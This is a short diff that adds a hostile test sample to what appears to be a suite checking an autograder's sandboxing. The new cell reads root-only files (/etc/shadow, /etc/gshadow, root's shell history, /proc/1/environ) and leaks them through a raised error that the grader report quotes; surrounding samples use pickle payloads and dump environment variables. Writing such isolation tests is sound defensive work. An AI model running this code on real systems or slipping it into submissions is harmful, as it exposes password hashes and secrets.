@@ -105,6 +105,18 @@ inertia = pickle.dumps(Payload())
 centroids = np.array([Payload()] * 5, dtype=object)
 y_pred = Payload()
 ''',
+    # Files only root may read (a grader run as root, as on Gradescope, ran kernels as root).
+    "read_root_only_files": '''
+import os
+found = {}
+for path in ("/etc/shadow", "/etc/gshadow", "/root/.bash_history", "/proc/1/environ"):
+    try:
+        with open(path, "rb") as f:
+            found[path] = f.read(4096).decode("latin-1")
+    except OSError as exc:
+        found[path] = type(exc).__name__
+raise RuntimeError(repr(found)[:3000])   # the report quotes a cell's error
+''',
     "read_environment": '''
 import os
 leak = dict(os.environ)
